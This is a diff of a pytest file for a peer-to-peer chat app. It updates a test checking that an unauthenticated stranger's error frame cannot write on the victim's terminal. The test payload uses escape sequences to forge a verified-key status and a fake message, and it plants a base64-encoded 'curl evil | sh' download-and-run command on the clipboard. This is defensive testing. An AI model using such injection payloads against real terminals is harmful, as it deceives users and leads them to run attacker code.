@@ -13,7 +13,7 @@ from collections.abc import Iterator
 
 import pytest
 
-from p2pchat.chat_protocol import CHAT
+from p2pchat.chat_protocol import CHAT, PROTOCOL_VERSION
 from p2pchat.events import MessageReceived, SessionEnded, StepResult
 from p2pchat.foundation.addresses import CHAT_PORT
 from p2pchat.foundation.identity import KEY_FILE, Identity
@@ -102,7 +102,7 @@ def assert_screen_clean(output: str, senders: list[str]) -> list[str]:
 def test_a_strangers_error_frame_before_authentication_cannot_write_on_the_terminal(w):
     payload = ("\x1b[1A\x1b[2K\r✓ 4 Agree AES key — safety number 1234 5678 9012\n[1] [12:00:00] alice: hi"
                "\x1b]0;p2pchat — alice ✓ verified\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07")
-    hello = CHAT.encode("hello", version=1, network="p2pchat", nickname="stranger", address="")
+    hello = CHAT.encode("hello", version=PROTOCOL_VERSION, network="p2pchat", nickname="stranger", address="")
     with socket.create_connection((w.victim.ip, CHAT_PORT), timeout=10,
                                   source_address=(w.stranger_ip, 0)) as sock:
         sock.sendall(hello + CHAT.encode("error", reason=payload[:1000]))
